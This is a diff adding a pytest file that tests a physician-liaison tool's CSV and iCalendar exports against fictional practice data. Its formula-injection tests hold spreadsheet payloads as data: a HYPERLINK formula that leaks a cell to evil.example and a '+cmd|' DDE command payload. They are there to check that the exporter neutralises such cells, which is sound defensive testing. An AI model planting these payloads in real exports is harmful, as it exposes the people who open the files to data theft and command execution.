@@ -1,0 +1,438 @@
+"""Exports (SPEC §6): exports/*.csv and the iCalendar feeds.
+
+Expected values come from the SPEC, the worked example's data files and
+/work/shared/spec-example/expected-stats-2026-11-26.json, written out here by hand; never
+from liaison's own output. Edited copies of the example (it is read-only) come from the
+`example_site` fixture of conftest.
+"""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+from pathlib import Path
+
+import pytest
+from icalendar import Calendar
+
+from conftest import SPEC_EXAMPLE
+from liaison import exports
+from liaison.pipeline import check
+
+D = dt.date(2026, 11, 26)
+
+
+def load(root: Path, as_of: dt.date = D):
+    checked = check(root, as_of, keep_records=True)
+    assert checked.ok, checked.report.errors
+    return checked
+
+
+@pytest.fixture(scope="module")
+def example():
+    return load(SPEC_EXAMPLE)
+
+
+def rows_of(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def dicts_of(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def assert_plain_csv(data: bytes) -> None:
+    assert not data.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
+    data.decode("utf-8")
+    assert data.endswith(b"\r\n")
+    # every line ends with CRLF, and there is no bare LF or CR
+    assert data.count(b"\n") == data.count(b"\r\n") == data.count(b"\r")
+
+
+def append(path: Path, text: str) -> None:
+    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
+
+
+# --------------------------------------------------------------------------- physicians.csv
+
+PHYSICIAN_HEADER = [
+    "id", "name", "credentials", "npi", "specialty", "practice", "practice_name", "city",
+    "tier", "liaison", "office_days", "email", "phone", "status", "declining",
+    "visit_overdue", "referrals", "referrals_90d", "referrals_prev_90d", "referrals_365d",
+    "referrals_prev_365d", "first_referral", "last_referral", "days_since_referral",
+    "interactions_365d", "last_contact", "last_visit",
+]
+
+
+def test_physicians_csv_header_and_rows(example):
+    data = exports.physicians_csv(example.site, example.stats)
+    assert_plain_csv(data)
+    rows = rows_of(data)
+    assert rows[0] == PHYSICIAN_HEADER
+    assert [r[0] for r in rows[1:]] == [
+        "alan-cho", "grace-holloway", "james-whitley", "marcus-bell", "nina-vargas",
+        "ruth-kessler",
+    ]
+    nina = dict(zip(PHYSICIAN_HEADER, rows[1 + 4]))
+    assert nina == {
+        "id": "nina-vargas", "name": "Nina Vargas", "credentials": "MD", "npi": "1477209534",
+        "specialty": "Obstetrics & Gynecology", "practice": "hendersonville-womens-health",
+        "practice_name": "Hendersonville Women's Health", "city": "Hendersonville",
+        "tier": "C", "liaison": "lena-brooks", "office_days": "", "email": "", "phone": "",
+        "status": "active", "declining": "false", "visit_overdue": "false",
+        "referrals": "4", "referrals_90d": "0", "referrals_prev_90d": "1",
+        "referrals_365d": "3", "referrals_prev_365d": "1",
+        "first_referral": "2025-11-26", "last_referral": "2026-07-30",
+        "days_since_referral": "119", "interactions_365d": "4",
+        "last_contact": "2026-11-23", "last_visit": "2026-10-12",
+    }
+
+
+def test_physicians_csv_nulls_booleans_and_effective_liaison(example):
+    by_id = {r["id"]: r for r in dicts_of(exports.physicians_csv(example.site, example.stats))}
+    james = by_id["james-whitley"]  # prospect, never visited, no liaison anywhere
+    assert james["status"] == "prospect"
+    assert james["first_referral"] == james["last_referral"] == ""
+    assert james["days_since_referral"] == james["last_visit"] == james["liaison"] == ""
+    assert james["visit_overdue"] == "true"
+    assert by_id["marcus-bell"]["declining"] == "true"
+    assert by_id["marcus-bell"]["npi"] == ""
+    assert by_id["grace-holloway"]["liaison"] == "lena-brooks"  # the practice's liaison
+    assert by_id["alan-cho"]["tier"] == "" and by_id["alan-cho"]["status"] == "lapsed"
+
+
+def test_physicians_csv_office_days_space_separated(example_site):
+    append(example_site / "data/physicians/grace-holloway.yaml", "office_days: [mon, wed, fri]\n")
+    c = load(example_site)
+    by_id = {r["id"]: r for r in dicts_of(exports.physicians_csv(c.site, c.stats))}
+    assert by_id["grace-holloway"]["office_days"] == "mon wed fri"
+
+
+# ------------------------------------------------------------------------- interactions.csv
+
+INTERACTION_HEADER = [
+    "date", "type", "liaison", "practice", "physicians", "met_with", "summary", "needs",
+    "outcome", "deck", "next_visit", "follow_ups", "open_follow_ups",
+]
+
+
+def test_interactions_csv_every_record_in_date_order(example):
+    data = exports.interactions_csv(example.site, D)
+    assert_plain_csv(data)
+    rows = rows_of(data)
+    assert rows[0] == INTERACTION_HEADER
+    body = [dict(zip(INTERACTION_HEADER, r)) for r in rows[1:]]
+    # 19 interactions of age ≥ 0 (totals.interactions) plus the one logged ahead (2026-12-01)
+    assert len(body) == 20
+    dates = [r["date"] for r in body]
+    assert dates == sorted(dates)
+    assert dates[0] == "2024-12-26" and dates[-1] == "2026-12-01"
+    assert all(len(r) == len(INTERACTION_HEADER) for r in rows)
+
+
+def test_interactions_csv_cells(example):
+    body = dicts_of(exports.interactions_csv(example.site, D))
+    by_date = {}
+    for r in body:
+        by_date.setdefault(r["date"], []).append(r)
+    lunch = by_date["2026-08-23"][0]
+    assert lunch["physicians"] == "grace-holloway marcus-bell"
+    assert (lunch["follow_ups"], lunch["open_follow_ups"]) == ("1", "0")
+    visit = by_date["2026-05-10"][0]
+    assert visit["met_with"] == "Tess Ramsey (nurse manager)"
+    assert visit["needs"] == "Same-week wound visits"
+    assert visit["outcome"] == "positive" and visit["practice"] == "french-broad-podiatry"
+    assert by_date["2026-01-30"][0]["deck"] == "venous-basics"
+    assert by_date["2026-10-27"][0]["next_visit"] == "2026-11-24"
+    email = by_date["2026-11-23"][0]
+    assert email["practice"] == "" and email["physicians"] == "nina-vargas"
+    assert email["outcome"] == "" and email["type"] == "email"
+    hv = by_date["2026-11-19"][0]
+    assert (hv["follow_ups"], hv["open_follow_ups"]) == ("3", "2")
+    assert by_date["2026-11-12"][0]["liaison"] == "owen-price"
+    ahead = by_date["2026-12-01"][0]
+    assert (ahead["follow_ups"], ahead["open_follow_ups"]) == ("1", "1")
+    # Markdown notes are not exported
+    assert b"echo" not in exports.interactions_csv(example.site, D)
+
+
+def test_interactions_csv_open_follow_ups_at_as_of(example):
+    def hv(as_of):
+        body = dicts_of(exports.interactions_csv(example.site, as_of))
+        return next(r for r in body if r["date"] == "2026-11-19")["open_follow_ups"]
+
+    assert hv(D) == "2"
+    assert hv(dt.date(2026, 11, 20)) == "3"  # done 2026-11-21 is after the as-of date
+    assert hv(None) == "2"  # as at the file: no done
+    assert exports.interactions_csv(example.site) == exports.interactions_csv(example.site, D)
+
+
+def test_interactions_csv_lists_joined_and_one_line_per_record(example_site):
+    append(example_site / "data/interactions/2026/11/2026-11-23-vargas-email.yaml",
+           "met_with: [Ann Lee (MA), Bo Park]\nneeds: [Faster reports, Parking]\n")
+    (example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml").write_text(
+        "date: 2026-11-26\nliaison: lena-brooks\ntype: call\n"
+        "practice: mountain-view-family-medicine\n"
+        'summary: "Two\\nlines, with a comma"\n', encoding="utf-8")
+    c = load(example_site)
+    data = exports.interactions_csv(c.site, D)
+    assert len(data.split(b"\r\n")) == 1 + 20 + 1  # header, 20 records, final empty piece
+    by_date = {r["date"]: r for r in dicts_of(data)}
+    assert by_date["2026-11-23"]["met_with"] == "Ann Lee (MA); Bo Park"
+    assert by_date["2026-11-23"]["needs"] == "Faster reports; Parking"
+    assert by_date["2026-11-26"]["summary"] == "Two lines, with a comma"
+
+
+# --------------------------------------------------------------------- referrals-by-month.csv
+
+
+def test_referrals_by_month_csv(example):
+    data = exports.referrals_by_month_csv(example.stats)
+    assert_plain_csv(data)
+    rows = rows_of(data)
+    assert rows[0] == ["month", "referrals", "scheduled", "consulted", "treated", "declined",
+                       "interactions", "in_person"]
+    body = rows[1:]
+    assert len(body) == 24
+    expected_months = [f"{y}-{m:02d}" for y in (2024, 2025, 2026) for m in range(1, 13)]
+    expected_months = expected_months[expected_months.index("2024-12"):
+                                      expected_months.index("2026-11") + 1]
+    assert [r[0] for r in body] == expected_months
+    assert sum(int(r[1]) for r in body) == 46  # totals.referrals
+    assert sum(int(r[6]) for r in body) == 19  # totals.interactions
+    assert body[0] == ["2024-12", "2", "2", "2", "2", "0", "1", "1"]
+    assert body[-1] == ["2026-11", "7", "1", "0", "0", "0", "5", "2"]
+
+
+# ---------------------------------------------------------------------- formula injection
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "' =1"),  # a line break becomes a space, the cell still gets its apostrophe
+    ("-3", "-3"),  # a plain number is no formula
+    ("+15035550100", "+15035550100"),
+    ("Dr. =Smith", "Dr. =Smith"),
+    ("", ""),
+    (None, ""),
+    (True, "true"),
+    (False, "false"),
+    (0, "0"),
+    (dt.date(2026, 1, 2), "2026-01-02"),
+])
+def test_csv_cell(value, cell):
+    assert exports.csv_cell(value) == cell
+
+
+def test_formula_injection_is_neutralized(example_site):
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    (example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml").write_text(
+        "date: 2026-11-26\nliaison: lena-brooks\ntype: call\n"
+        "practice: mountain-view-family-medicine\n"
+        f"summary: '{evil}'\n"
+        "met_with: ['+cmd|calc', 'Carla']\nneeds: ['@SUM(1+1)']\n", encoding="utf-8")
+    append(example_site / "data/physicians/alan-cho.yml", "phone: '-1+1'\nemail: '=1+2'\n")
+    c = load(example_site)
+    call = next(r for r in dicts_of(exports.interactions_csv(c.site, D))
+                if r["date"] == "2026-11-26")
+    assert call["summary"] == "'" + evil
+    assert call["met_with"] == "'+cmd|calc; Carla"
+    assert call["needs"] == "'@SUM(1+1)"
+    alan = next(r for r in dicts_of(exports.physicians_csv(c.site, c.stats))
+                if r["id"] == "alan-cho")
+    assert alan["phone"] == "'-1+1" and alan["email"] == "'=1+2"
+    assert alan["referrals"] == "4"  # numbers are never prefixed
+    # no cell of any export starts with a formula character
+    for data in (exports.interactions_csv(c.site, D), exports.physicians_csv(c.site, c.stats),
+                 exports.referrals_by_month_csv(c.stats)):
+        for row in rows_of(data):
+            for cell in row:
+                assert not re.match(r"[=+@\t\r]|-(?![0-9]+$)", cell), cell
+
+
+# ------------------------------------------------------------------------------ calendars
+
+
+def events_of(data: bytes) -> list:
+    cal = Calendar.from_ical(data)
+    assert cal.name == "VCALENDAR"
+    return [c for c in cal.walk("VEVENT")]
+
+
+def summary_dates(data: bytes) -> list[tuple[str, dt.date]]:
+    return [(str(e["SUMMARY"]), e.decoded("DTSTART")) for e in events_of(data)]
+
+
+HV = "Hendersonville Women's Health"
+OPEN_AT_D = [  # SPEC: open follow-ups of interactions of age ≥ 0 (totals.open_follow_ups 4)
+    ("Follow-up: Ask the lab about report turnaround (Mountain View Family Medicine)",
+     dt.date(2026, 10, 17)),
+    (f"Follow-up: Email the scheduling line card ({HV})", dt.date(2026, 11, 19)),
+    (f"Follow-up: Send the ultrasound criteria card ({HV})", dt.date(2026, 11, 25)),
+    (f"Follow-up: Drop off the holiday schedule ({HV})", dt.date(2026, 11, 26)),
+]
+
+
+def test_calendar_files(example):
+    cals = exports.calendars(example.site, example.stats, D)
+    # owen-price is front desk: no calendar of his own; lena-brooks is the only liaison
+    assert sorted(cals) == ["calendar.ics", "calendar/lena-brooks.ics"]
+    for data in cals.values():
+        assert isinstance(data, bytes)
+        assert data.startswith(b"BEGIN:VCALENDAR\r\n") and data.endswith(b"END:VCALENDAR\r\n")
+        cal = Calendar.from_ical(data)
+        assert str(cal["VERSION"]) == "2.0"
+        assert str(cal["PRODID"]) == "-//Liaison//Physician relations//EN"
+    assert str(Calendar.from_ical(cals["calendar.ics"])["X-WR-CALNAME"]) == \
+        "Blue Ridge Vein & Vascular — follow-ups and visits"
+    assert str(Calendar.from_ical(cals["calendar/lena-brooks.ics"])["X-WR-CALNAME"]) == \
+        "Blue Ridge Vein & Vascular — Lena Brooks"
+
+
+def test_calendar_holds_the_open_follow_ups(example):
+    cals = exports.calendars(example.site, example.stats, D)
+    everyone = summary_dates(cals["calendar.ics"])
+    assert everyone == OPEN_AT_D  # sorted by date; no done one, none of the 2026-12-01 lunch
+    assert len(everyone) == example.stats["totals"]["open_follow_ups"]
+    lena = summary_dates(cals["calendar/lena-brooks.ics"])
+    assert lena == [OPEN_AT_D[0], OPEN_AT_D[2], OPEN_AT_D[3]]
+    assert len(lena) == example.stats["liaisons"]["lena-brooks"]["open_follow_ups"]
+    for e in events_of(cals["calendar.ics"]):
+        assert [str(c) for c in e["CATEGORIES"].cats] == ["follow-up"]
+
+
+def test_calendar_events_are_all_day_with_content(example):
+    data = exports.calendars(example.site, example.stats, D)["calendar.ics"]
+    for e in events_of(data):
+        start, end = e.decoded("DTSTART"), e.decoded("DTEND")
+        assert type(start) is dt.date and type(end) is dt.date
+        assert end - start == dt.timedelta(days=1)
+    assert b"DTSTART;VALUE=DATE:20261126\r\n" in data
+    assert b"DTSTART;VALUE=DATE:20261017\r\n" in data
+    holiday = next(e for e in events_of(data) if "holiday" in str(e["SUMMARY"]))
+    text = str(holiday["DESCRIPTION"])
+    assert "2026-11-19" in text  # the interaction's date
+    assert "Met the office staff; Dr. Whitley was out." in text  # its summary
+    assert "Owner: Lena Brooks" in text
+    card = next(e for e in events_of(data) if "scheduling line" in str(e["SUMMARY"]))
+    assert "Owner: Owen Price" in str(card["DESCRIPTION"])  # owner defaults to who logged it
+
+
+def test_calendar_uids_and_stamps_are_deterministic(example):
+    first = exports.calendars(example.site, example.stats, D)
+    again = exports.calendars(example.site, example.stats, D)
+    reloaded = load(SPEC_EXAMPLE)  # a second load, as in a second build
+    third = exports.calendars(reloaded.site, reloaded.stats, D)
+    assert first == again == third
+    uids = [str(e["UID"]) for e in events_of(first["calendar.ics"])]
+    assert len(set(uids)) == len(uids) == 4
+    assert all(u.endswith("@liaison") for u in uids)
+    lena_uids = [str(e["UID"]) for e in events_of(first["calendar/lena-brooks.ics"])]
+    assert set(lena_uids) <= set(uids)  # the same event has the same UID in every calendar
+    now = dt.datetime.now(dt.timezone.utc)
+    for data in first.values():
+        # the only date-time in the output is DTSTAMP, and it is the as-of date at midnight
+        stamps = re.findall(rb"DTSTAMP[^:]*:(\S+)\r\n", data)
+        assert set(stamps) <= {b"20261126T000000Z"}
+        assert re.findall(rb"\d{8}T\d{6}Z?", data) == stamps
+        assert now.strftime("%Y%m%dT%H%M").encode() not in data
+        for prop in (b"CREATED", b"LAST-MODIFIED", b"SEQUENCE", b"X-WR-TIMEZONE"):
+            assert b"\r\n" + prop not in data
+    # the as-of date decides the stamp, and nothing else in the output moves with the clock
+    other = load(SPEC_EXAMPLE, dt.date(2026, 11, 27))
+    later = exports.calendars(other.site, other.stats, dt.date(2026, 11, 27))
+    assert b"DTSTAMP:20261127T000000Z\r\n" in later["calendar.ics"]
+
+
+def test_calendar_as_of_decides_what_is_open(example):
+    earlier = dt.date(2026, 11, 20)
+    c = load(SPEC_EXAMPLE, earlier)
+    cals = exports.calendars(c.site, c.stats, earlier)
+    everyone = summary_dates(cals["calendar.ics"])
+    # the 2026-11-19 visit's "Confirm a lunch date" was done 2026-11-21: open on 2026-11-20,
+    # owned by owen-price (not in Lena's calendar)
+    lunch = (f"Follow-up: Confirm a lunch date ({HV})", dt.date(2026, 11, 24))
+    assert lunch in everyone
+    assert lunch not in summary_dates(cals["calendar/lena-brooks.ics"])
+    # the 2026-10-27 visit planned 2026-11-24; on 2026-11-20 no later interaction has happened
+    visit = ("Visit: Mountain View Family Medicine", dt.date(2026, 11, 24))
+    assert visit in everyone
+    assert visit in summary_dates(cals["calendar/lena-brooks.ics"])
+    assert len([s for s, _ in everyone if s.startswith("Follow-up")]) == \
+        c.stats["totals"]["open_follow_ups"]
+
+
+def test_calendar_planned_visits(example_site):
+    ivs = example_site / "data/interactions/2026"
+    # the latest interaction with Mountain View plans the next visit: an event
+    append(ivs / "11/2026-11-26-mountain-view-call.yaml", "next_visit: 2026-12-03\n")
+    # an earlier plan for the same practice is superseded by the 2026-11-26 call
+    (ivs / "10/2026-10-27-mountain-view-visit.yaml").write_text(
+        (ivs / "10/2026-10-27-mountain-view-visit.yaml").read_text(encoding="utf-8")
+        .replace("next_visit: 2026-11-24", "next_visit: 2026-12-10"), encoding="utf-8")
+    # a plan of an interaction logged ahead (dated after the as-of date): no event
+    append(ivs / "12/2026-12-01-french-broad-lunch.yaml", "next_visit: 2027-01-05\n")
+    # a physician-only interaction plans a visit to the physician
+    append(ivs / "11/2026-11-23-vargas-email.yaml", "next_visit: 2026-12-02\n")
+    c = load(example_site)
+    cals = exports.calendars(c.site, c.stats, D)
+    visits = [(s, d) for s, d in summary_dates(cals["calendar.ics"]) if s.startswith("Visit")]
+    assert visits == [("Visit: Nina Vargas", dt.date(2026, 12, 2)),
+                      ("Visit: Mountain View Family Medicine", dt.date(2026, 12, 3))]
+    lena = summary_dates(cals["calendar/lena-brooks.ics"])
+    assert set(visits) <= set(lena)
+    mv = next(e for e in events_of(cals["calendar.ics"])
+              if str(e["SUMMARY"]) == "Visit: Mountain View Family Medicine")
+    assert [str(x) for x in mv["CATEGORIES"].cats] == ["visit"]
+    assert "2026-11-26" in str(mv["DESCRIPTION"])
+    assert str(mv["LOCATION"]) == "410 Merrimon Avenue, Asheville, NC 28804"
+    assert mv.decoded("DTSTART") == dt.date(2026, 12, 3)
+
+
+def test_calendar_for_a_liaison_without_events(example_site):
+    (example_site / "data/team/zoe-park.yaml").write_text(
+        "name: Zoe Park\nrole: liaison\n", encoding="utf-8")
+    c = load(example_site)
+    cals = exports.calendars(c.site, c.stats, D)
+    assert sorted(cals) == ["calendar.ics", "calendar/lena-brooks.ics", "calendar/zoe-park.ics"]
+    cal = Calendar.from_ical(cals["calendar/zoe-park.ics"])
+    assert events_of(cals["calendar/zoe-park.ics"]) == []
+    assert str(cal["X-WR-CALNAME"]) == "Blue Ridge Vein & Vascular — Zoe Park"
+
+
+def test_calendar_uid_survives_rescheduling_and_stays_unique(example_site):
+    c = load(example_site)
+    before = {str(e["SUMMARY"]): str(e["UID"])
+              for e in events_of(exports.calendars(c.site, c.stats, D)["calendar.ics"])}
+    hv = example_site / "data/interactions/2026/11/2026-11-19-hendersonville-visit.yaml"
+    hv.write_text(hv.read_text(encoding="utf-8").replace("due: 2026-11-26", "due: 2026-12-04")
+                  + "  - task: Drop off the holiday schedule\n    due: 2026-12-20\n",
+                  encoding="utf-8")
+    c = load(example_site)
+    events = events_of(exports.calendars(c.site, c.stats, D)["calendar.ics"])
+    uids = [str(e["UID"]) for e in events]
+    assert len(uids) == len(set(uids)) == 5
+    holiday = [e for e in events if "holiday" in str(e["SUMMARY"])]
+    assert [e.decoded("DTSTART") for e in holiday] == [dt.date(2026, 12, 4), dt.date(2026, 12, 20)]
+    key = f"Follow-up: Drop off the holiday schedule ({HV})"
+    assert before[key] in {str(e["UID"]) for e in holiday}
+
+
+def test_calendars_refuse_stats_of_another_date(example):
+    with pytest.raises(ValueError):
+        exports.calendars(example.site, example.stats, dt.date(2026, 11, 27))
+
+
+def test_calendar_bytes_are_icalendars_own_serialization(example_site):
+    """Events are serialized once and spliced into each calendar: the result must be what
+    icalendar itself writes for the whole calendar."""
+    append(example_site / "data/interactions/2026/11/2026-11-26-mountain-view-call.yaml",
+           "next_visit: 2026-12-03\n")
+    c = load(example_site)
+    for data in exports.calendars(c.site, c.stats, D).values():
+        assert Calendar.from_ical(data).to_ical() == data
